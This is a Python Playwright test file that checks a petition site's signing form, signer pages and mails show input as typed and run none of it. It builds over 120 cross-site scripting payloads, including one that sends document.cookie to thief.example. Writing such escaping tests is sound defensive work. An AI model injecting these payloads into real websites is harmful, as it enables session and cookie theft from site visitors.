"""Signers who try to bring scripts along: whatever they type is shown as typed, and nothing of it runs."""

from __future__ import annotations

from typing import Any

from playwright.sync_api import expect

from clarion.domain.names import TextRefused, clean_name, clean_text, public_name
from clarion.signatures.reasons import SHOWN
from clarion.testing import link

CALLS = ("alert(1)", "document.title='taken'", "fetch('https://thief.example/?'+document.cookie)")
OPENINGS = ("", '">', "'>", "</p></blockquote>", "</textarea></title></style></script>", "-->")
BODIES = (
    "<script>{call}</script>",
    "<ScRiPt >{call}</sCrIpT\t>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<img src=x onerror={call}>",
    "<img/src='x'/onerror='{call}'//",
    "<svg onload={call}>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><script>{call}</script></svg>",
    "<math><mtext><table><mglyph><style><img src onerror={call}>",
    "<body onload={call}>",
    "<input autofocus onfocus={call}>",
    "<details open ontoggle={call}>x</details>",
    "<video><source onerror={call}></video>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    '<iframe src="javascript:{call}"></iframe>',
    '<object data="javascript:{call}"></object>',
    '<embed src="data:text/html,<script>{call}</script>">',
    '<a href="javascript:{call}" autofocus onfocus={call}>x</a>',
    '<a href="java\tscript:{call}">x</a>',
    '<form action="javascript:{call}"><button>x</button></form>',
    '<button form=sign-form formaction="javascript:{call}">x</button>',
    '<base href="https://thief.example/">',
    '<link rel=stylesheet href="https://thief.example/x.css">',
    '<meta http-equiv=refresh content="0;url=https://thief.example/">',
    "<style>@import 'https://thief.example/x.css';*{{animation:x 1s}}</style>",
    '<p style="background:url(https://thief.example/x.png)">x</p>',
    "<template><script>{call}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={call}>">',
    "<!--><img src=x onerror={call}>-->",
    "<![CDATA[<script>{call}</script>]]>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;img src=x onerror={call}&#62;",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "%3Cscript%3E{call}%3C/script%3E",
    '" onmouseover="{call}" x="',
    "' autofocus onfocus='{call}' x='",
    "` onfocus=`{call}`",
    "javascript:{call}",
    "{{{{7*7}}}}{{% print({call}) %}}${{7*7}}",
    '[x](javascript:{call}) ![x](x"onerror="{call})',
)
PAYLOADS = [
    OPENINGS[(number + turn) % len(OPENINGS)] + body.format(call=CALLS[turn])
    for turn in range(len(CALLS))
    for number, body in enumerate(BODIES)
]

LEFT_BEHIND = """() => [...document.querySelectorAll("*")].flatMap((element) => [
  ...[...element.attributes].filter(({name}) => name.startsWith("on")).map(({name}) => `${element.tagName} ${name}`),
  ...(element.matches("iframe, object, embed, base, math, video, template, noscript, meta[http-equiv]")
      ? [element.tagName] : []),
  ...(element.matches("script:not([src^='/static/'])") ? ["script"] : []),
  ...(element.matches("[href^='javascript:'], [action^='javascript:'], [formaction^='javascript:']")
      ? ["javascript:"] : []),
])"""


def _is_name(text: str) -> bool:
    try:
        return bool(clean_name(text))
    except TextRefused:
        return False


def _nothing_ran(page: Any, title: str) -> None:
    assert page.evaluate(LEFT_BEHIND) == []
    assert page.title() == title


def _sign(site: Any, number: int, name: str, reason: str) -> None:
    fields = {"email": f"a{number}@readers.example", "postal_code": "20009", "name": name, "reason": reason}
    assert site.instance.sign("dc-sanctuary", show_name="y", **fields).status_code == 303


def _confirm_all(site: Any) -> None:
    site.instance.work()
    for mail in site.instance.mails():
        site.instance.client.post(link(mail, "confirm"), data={"action": "confirm"})
    site.instance.work()
    for path in (site.instance.home / "var" / "mail").glob("*.eml"):
        path.unlink()


def test_there_are_plenty() -> None:
    assert len(set(PAYLOADS)) >= 120


def test_reasons_and_names_are_shown_as_typed(visit, site) -> None:
    """The policy that forbids scripts is switched off here: it is the second wall, and the first must hold alone."""
    visitor = visit(bypass_csp=True)
    page = visitor.page
    visitor.open("/dc-sanctuary/en")
    title, batches, as_names = page.title(), 0, 0
    for start in range(0, len(PAYLOADS), SHOWN):
        expected = []
        for number, payload in enumerate(PAYLOADS[start : start + SHOWN], start):
            name = f"A{payload}"
            name = name if _is_name(name) else "Ana Luna"
            as_names += name != "Ana Luna"
            _sign(site, number, name, payload)
            expected.append((clean_text(payload), public_name(clean_name(name))))
        _confirm_all(site)
        site.approve_reasons()
        page.reload()
        shown = page.eval_on_selector_all(
            ".reasons li", "all => all.map((li) => [...li.children].map((part) => part.textContent))"
        )
        assert [tuple(pair) for pair in shown] == expected[::-1]
        _nothing_ran(page, title)
        batches += 1
    assert batches == 10
    assert as_names > 60


def test_what_was_refused_or_carried_over_stays_as_typed(visit) -> None:
    visitor = visit(bypass_csp=True)
    page = visitor.page
    visitor.open("/dc-sanctuary/en")
    fields = ("name", "email", "postal_code", "phone", "reason")
    for start in range(0, len(PAYLOADS), len(fields)):
        typed = dict(zip(fields, PAYLOADS[start : start + len(fields)], strict=True))
        page.eval_on_selector_all("#email", "all => all.forEach((field) => { field.type = 'text' })")
        if start % 3:
            visitor.send_anyway(**typed)
            expect(page.locator(".error").first).to_be_visible()
        else:
            visitor.sign(**typed)
            other = "es" if page.locator("html").get_attribute("lang") == "en" else "en"
            with page.expect_navigation():
                page.click(f".langs button[lang={other}]")
        for name, words in typed.items():
            assert page.input_value(f"#{name}") in (words, clean_text(words)), name
        _nothing_ran(page, page.title())
        assert "taken" not in page.title()


def test_mails_and_the_signers_own_page_show_names_as_typed(visit, site) -> None:
    names = [name for name in (f"A{payload}" for payload in PAYLOADS) if _is_name(name)][::6]
    assert len(names) > 10
    visitor, reader = visit(bypass_csp=True), visit(bypass_csp=True)
    for name in names:
        signer = site.confirmed(name=name, reason=name)
        visitor.open(signer.me)
        expect(visitor.page.locator("#name")).to_have_value(clean_name(name))
        expect(visitor.page.locator("#reason")).to_have_value(clean_text(name))
        assert visitor.page.evaluate(LEFT_BEHIND) == []
        thanks = site.instance.mails()[-1]
        reader.page.set_content(thanks.get_body(("html",)).get_content())
        assert clean_name(name) in reader.page.locator("h1").inner_text()
        assert reader.page.evaluate(LEFT_BEHIND) == []
